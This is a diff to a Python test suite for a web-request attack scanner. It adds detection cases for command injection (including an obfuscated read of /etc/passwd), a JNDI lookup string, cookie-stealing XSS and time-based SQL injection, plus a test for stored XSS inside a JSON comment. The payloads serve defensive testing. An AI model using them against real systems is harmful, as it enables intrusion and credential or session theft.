@@ -185,6 +185,14 @@ def test_benign_referers_are_quiet(referer: str) -> None:
         ("cmd_injection", "8.8.8.8 && ping 10.0.0.1"),
         ("cmd_injection", "pi$()ng 127.0.0.1"),
         ("cmd_injection", "~+"),
+        ("cmd_injection", "bash -c 'whoami'"),
+        ("cmd_injection", "c=cat&&a=/etc/passwd&&$c $a"),
+        ("cmd_injection", "\\ls -la"),
+        ("jndi", "$&lbrace;jndi:ldap://198.51.100.7/a}"),
+        ("xss", "<a href=\"ja&tab;vascript:alert(1)\">x</a>"),
+        ("xss", "(document/*x*/)['cookie']"),
+        ("sqli", "sleep(5)"),
+        ("sqli", "1 or sleep (5)#"),
         ("path_traversal", "../../../../etc/passwd"),
     ],
 )
@@ -211,3 +219,10 @@ def test_sql_behind_prose_head_still_fires() -> None:
 def test_commands_in_referers_still_fire(referer: str) -> None:
     found = {hit.subtype for hit in scan(_exchange(headers=(("Referer", referer),)))}
     assert "cmd_injection" in found, (referer, found)
+
+
+def test_markup_in_a_prose_document_still_fires() -> None:
+    # Only SQL is read in a document's first sentence: stored XSS in a long comment is an attack.
+    text = ARTICLE + " Nice post! <img src=x onerror=alert(document.cookie)>"
+    body = json.dumps({"comment": text}).encode()
+    assert "xss" in {hit.subtype for hit in scan(_exchange(body=body, ctype="application/json"))}
